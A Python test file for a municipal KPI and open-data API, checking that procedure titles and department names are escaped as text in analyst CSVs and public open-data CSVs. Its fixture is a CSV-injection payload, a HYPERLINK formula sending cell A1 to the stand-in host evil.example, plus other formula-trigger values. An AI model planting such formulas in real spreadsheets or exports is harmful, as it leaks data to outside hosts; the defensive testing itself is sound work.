"""CSV injection (issue 15): a procedure title or department that a spreadsheet would
run as a formula reaches the analysts' CSVs and the public open data as text."""

from __future__ import annotations

import csv
import io

import httpx

from tests.factories import TOMI, seed_municipalities, simple_definition
from tests.kpi.conftest import Today
from tests.kpi.helpers import Applications, ProcedureClock, jst

FORMULA_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"詳細")'
FORMULA_TITLE_EN = "@SUM(1+1)"
FORMULA_DEPARTMENT = "+81 市民課"
CODE = "csv-formula"


def _rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


async def test_formula_titles_are_text_in_every_kpi_csv(
    kpi_api: httpx.AsyncClient,
    analyst: dict[str, str],
    procedure_clock: ProcedureClock,
    applications: Applications,
    today: Today,
) -> None:
    today.day = today.day.replace(year=2025, month=10, day=15)
    await seed_municipalities(procedure_clock.factory)
    definition = simple_definition(
        CODE,
        title={"ja": FORMULA_TITLE, "en": FORMULA_TITLE_EN},
        department={"ja": FORMULA_DEPARTMENT, "en": "-Citizens"},
        fee_rules=[],
    )
    await procedure_clock.publish(jst(2025, 4, 1, 9), definition)
    for day in range(1, 6):
        await applications.online(CODE, jst(2025, 6, day, 10))

    listing = await kpi_api.get("/api/v1/kpi/procedures.csv", headers=analyst)
    [procedure] = _rows(listing.content)
    assert procedure["title_ja"] == "'" + FORMULA_TITLE
    assert procedure["title_en"] == "'" + FORMULA_TITLE_EN
    assert procedure["department"] == "'" + FORMULA_DEPARTMENT

    usage = await kpi_api.get(
        "/api/v1/kpi/usage.csv",
        params={"fiscal_year": 2025, "group_by": "procedure,department"},
        headers=analyst,
    )
    [group] = _rows(usage.content)
    assert group["procedure_title"] == "'" + FORMULA_TITLE
    assert group["department"] == "'" + FORMULA_DEPARTMENT
    assert group["applications"] == "5"

    open_data = f"/api/v1/municipalities/{TOMI}/open-data"
    published = _rows((await kpi_api.get(f"{open_data}/online-procedures.csv")).content)
    assert [(row["手続名"], row["手続名_英語"], row["担当課"]) for row in published] == [
        ("'" + FORMULA_TITLE, "'" + FORMULA_TITLE_EN, "'" + FORMULA_DEPARTMENT)
    ]
    counted = _rows((await kpi_api.get(f"{open_data}/applications.csv")).content)
    assert {(row["手続名"], row["担当課"]) for row in counted} == {
        ("'" + FORMULA_TITLE, "'" + FORMULA_DEPARTMENT)
    }
    assert [row["申請件数"] for row in counted if row["年月"] == "2025-06"] == ["5"]


async def test_a_negative_change_stays_a_number(
    kpi_api: httpx.AsyncClient, analyst: dict[str, str], procedure_clock: ProcedureClock
) -> None:
    """change_from_baseline below the baseline is a negative number, not a formula."""
    await seed_municipalities(procedure_clock.factory)
    await procedure_clock.publish(jst(2025, 4, 1, 9), simple_definition(CODE))
    trend = await kpi_api.get("/api/v1/kpi/online-procedures.csv", headers=analyst)
    assert [row["change_from_baseline"] for row in _rows(trend.content)] == ["-12"]
